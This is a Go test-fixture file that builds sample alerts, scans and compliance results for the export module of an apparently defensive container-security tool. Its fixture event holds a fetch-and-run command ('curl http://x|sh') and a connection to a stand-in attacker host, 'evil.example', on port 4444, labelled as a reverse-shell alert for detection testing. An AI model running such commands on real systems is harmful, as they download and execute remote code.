package export

import (
	"encoding/json"
	"net/netip"
	"testing"
	"time"

	"github.com/vigil-cwpp/vigil/internal/alert"
	"github.com/vigil-cwpp/vigil/internal/event"
	"github.com/vigil-cwpp/vigil/internal/store"
)

var t0 = time.Date(2026, 11, 30, 6, 0, 0, 123456789, time.UTC)

// testEvent is a shell in a container connecting out, with the awkward
// characters a CEF or syslog encoder must escape.
func testEvent() *event.Event {
	return &event.Event{
		Time: t0, Type: event.NetConnect, Syscall: "connect",
		Process: event.Process{PID: 4242, PPID: 4200, Name: "sh", Exe: "/bin/sh",
			Args: []string{"sh", "-c", "curl http://x|sh; a=b \\ c"}, CmdLine: "sh -c curl http://x|sh; a=b \\ c",
			UID: 0, User: "root", StartTime: t0.Add(-time.Second), Cwd: "/app"},
		Parent:    &event.Process{PID: 4200, Name: "node", Exe: "/usr/bin/node", Args: []string{"node", "server.js"}},
		Ancestors: []event.Ancestor{{PID: 4100, Name: "containerd-shim", Exe: "/usr/bin/containerd-shim-runc-v2"}},
		Net: &event.Net{Family: "inet", Type: "stream", Protocol: 6,
			Src: netip.MustParseAddrPort("172.17.0.2:40000"), Dst: netip.MustParseAddrPort("203.0.113.9:4444"), Names: []string{"evil.example"}},
		Workload: &event.Workload{Host: "node-1", ContainerID: "c0ffee1234567890", ContainerName: "web", Runtime: "docker",
			Image: "nginx:1.25", ImageDigest: "sha256:abcd", PodName: "web-0", PodNamespace: "prod"},
	}
}

func testAlert(t testing.TB, id string) store.Alert {
	t.Helper()
	a := alert.Alert{Time: t0, Type: "alert", Rule: "Reverse shell | outbound", Priority: "critical", Source: "rules",
		Tactics: []string{"TA0002 Execution"}, Techniques: []string{"T1059.004"},
		Output: "Reverse shell a=b | c\nsecond line (proc=sh)", Count: 1, Event: testEvent(),
		Responses: []string{"freeze: done"}}
	raw, err := json.Marshal(&a)
	if err != nil {
		t.Fatal(err)
	}
	return store.Alert{ID: id, AgentID: "agent-1", Host: "node-1", Time: t0, LastSeen: t0.Add(time.Minute), Count: 3,
		Rule: a.Rule, Priority: "critical", Severity: 2, Source: "rules", Tactics: a.Tactics, Techniques: a.Techniques,
		Output: a.Output, ContainerID: "c0ffee1234567890", ContainerName: "web", Image: "nginx:1.25",
		Namespace: "prod", Pod: "web-0", Class: "web", IncidentID: "inc-1", Responses: []string{"freeze: done"}, Raw: raw}
}

func testBatch(t testing.TB) *store.Batch {
	return &store.Batch{
		AgentID: "agent-1", FirstSeq: 1, LastSeq: 5,
		Alerts:       []store.Alert{testAlert(t, "01J-alert-1")},
		AlertUpdates: []store.AlertUpdate{{ID: "01J-old", AddCount: 2}},
		Responses: []store.Response{{ID: "resp-1", AgentID: "agent-1", AlertID: "01J-alert-1", Time: t0.Add(time.Second),
			Action: "freeze", Actor: "agent", Outcome: "done", Target: "c0ffee1234567890", Record: json.RawMessage(`{"id":"resp-1"}`)}},
		Scans: []store.Scan{{ID: "scan-1", Time: t0, Target: "nginx:1.25", ImageDigest: "sha256:abcd", Source: "agent:agent-1",
			Findings: []store.Finding{
				{VulnID: "CVE-2024-1234", CVE: "CVE-2024-1234", Package: "openssl", Version: "3.0.1", PackageType: "deb",
					PURL: "pkg:deb/debian/openssl@3.0.1", FixedVersion: "3.0.2", Severity: "critical", CVSS: 9.8, KEV: true, EPSS: 0.5, Summary: "bad"},
				{VulnID: "GHSA-xxxx-yyyy-zzzz", Package: "lodash", Version: "4.17.0", PackageType: "npm", Severity: "medium", CVSS: 5.3},
			}}},
		Compliance: []store.ComplianceResult{{ID: "cmp-1", AgentID: "agent-1", Time: t0, Benchmark: "CIS Docker 1.6",
			CheckID: "5.4", Title: "Ensure privileged containers are not used", Status: "fail"}},
	}
}

func testItems(t testing.TB) []*Item { return itemsOf(testBatch(t)) }
